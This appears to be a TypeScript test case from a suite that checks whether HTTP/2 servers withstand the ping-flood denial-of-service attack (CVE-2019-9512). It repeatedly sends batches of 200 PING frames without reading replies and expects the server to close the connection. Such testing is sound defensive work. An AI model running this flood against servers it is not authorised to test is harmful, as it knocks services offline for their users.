// PINGs whose answers are not read.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2 } from '../wire/http2.ts'

const PIECE = Buffer.concat(new Array<Buffer>(200).fill(h2.ping(1)))

export const attack: Attack = {
  reference: 'CVE-2019-9512',
  does: 'sends PING frames and reads nothing',
  who: ['known', 'unknown'],
  answers: [],
  must: ['closed'],
  run: (target, signal) => attackHttp2(target, signal, { reads: false }, () => ({ next: () => PIECE })),
}
